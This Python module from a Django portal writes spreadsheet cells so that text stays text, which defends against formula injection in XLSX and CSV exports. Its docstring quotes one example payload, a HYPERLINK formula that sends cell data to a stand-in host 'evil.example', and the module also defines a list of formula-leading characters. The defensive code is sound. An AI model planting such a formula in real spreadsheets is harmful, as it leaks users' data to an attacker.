"""The one way a value goes into a cell of a workbook the portal writes: text stays text, never a formula.

openpyxl turns any str that begins with "=" into a formula cell (`<f>`), and "#N/A" and the other error
words into error cells. Organisations write narratives, names, phones and e-mails, and the Institute edits
indicator names in the admin; a narrative `=HYPERLINK("http://evil.example/?leak="&B2,"click me")` must reach
the reader as those characters, not as a live link that sends the sheet's data away (formula injection).
So every str is stored as a string cell (data_type "s", written as an inline string) whatever it begins
with: "=", "+", "-", "@", a tab or a carriage return included. Spreadsheet programs never evaluate a string
cell, so the text is shown exactly as typed and nothing needs to be escaped or prefixed: the reader sees the
narrative verbatim, and a number or a date keeps its type and stays summable.

Two changes are made to text, both because the file format leaves no choice:
- line breaks are written as "\\n": XML readers turn "\\r\\n" and a lone "\\r" into "\\n" anyway (XML 1.0
  §2.11), so writing "\\n" makes the file hold what every reader gets back (browsers send "\\r\\n" from a
  textarea);
- the control characters XML 1.0 cannot hold at all (U+0000–U+0008, U+000B, U+000C, U+000E–U+001F; a tab
  and a line break are kept) are dropped, where openpyxl would otherwise fail the whole report.

CSV: a CSV has no cell types, so the care above cannot apply there: the one CSV file the portal writes (a
report's long-form values, reports/values_csv.py) puts every text through `as_csv_text`, which prefixes a
text that begins with one of `FORMULA_LEADS` with an apostrophe (the OWASP advice). Its numbers are
written by the writer itself, never through it: "-3" is a number, not a formula.

Every writer (reports/xlsx.py, pilot_portal/xlsx_table.py for every table and list the pages export, the import
template in pilots/importer/template.py) builds its
cells with `cell` or fills them with `put`; `pilot_portal/tests/test_xlsx_cells.py` fails when a module
creates or fills a cell any other way.
"""

import datetime
import re
from decimal import Decimal

from django.utils.functional import Promise
from openpyxl.cell import Cell

# What spreadsheet programs take as the start of a formula when text is typed or imported (CSV); in a
# string cell they are harmless, and a test writes each of them through `put` and reads it back.
FORMULA_LEADS = ("=", "+", "-", "@", "\t", "\r")
# XML 1.0 forbids these characters in a document; openpyxl raises IllegalCharacterError on them.
_NOT_IN_XML = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f]")
_LINE_BREAK = re.compile(r"\r\n?")
_AS_IS = (int, float, Decimal, bool, datetime.date, datetime.datetime, datetime.time, datetime.timedelta)
# One number format per kind of number, in every workbook the portal writes (monitoring/exports.py,
# reports/xlsx.py): a count, a decimal (one place, as the pages round), a percent.
INTEGER, DECIMAL, PERCENT = "#,##0", "#,##0.0", "0.0"


def number_format(indicator_type: str) -> str:
    """An indicator's figure's format by its type (monitoring's Indicator.Type); a count of yes answers
    (a practice zone) is a count."""
    return {"decimal": DECIMAL, "percent": PERCENT}.get(indicator_type, INTEGER)


def as_text(value: str) -> str:
    """The text as it is stored in, and read back from, a cell."""
    text = str(value)
    if text.isprintable():  # nearly every text: no control character to look at (a scan in C, for million-row sheets)
        return text
    return _NOT_IN_XML.sub("", _LINE_BREAK.sub("\n", text))


def as_csv_text(value: str) -> str:
    """Text for a CSV field: one that a spreadsheet would read as a formula gets a leading apostrophe."""
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_LEADS) else text


def put(cell: Cell, value) -> Cell:
    """Store `value` in `cell`: text as a string cell, numbers as numbers, dates as dates, None as empty."""
    if isinstance(value, str | Promise):
        cell.value = as_text(value)
        # After the assignment: openpyxl has just decided that "=…" is a formula and "#N/A" an error.
        cell.data_type = "s"
    elif value is None or isinstance(value, _AS_IS):
        cell.value = value
    else:
        raise TypeError(f"{type(value).__name__} is not a cell value; convert it in the writer")
    return cell


def cell(sheet, value, *, number_format: str | None = None) -> Cell:
    """A new cell of `sheet` holding `value`, for `sheet.append([...])` in write-only and ordinary sheets."""
    # Row and column are placeholders: `append` gives the cell its place.
    new = put(Cell(sheet, row=1, column=1), value)
    if number_format:
        new.number_format = number_format
    return new
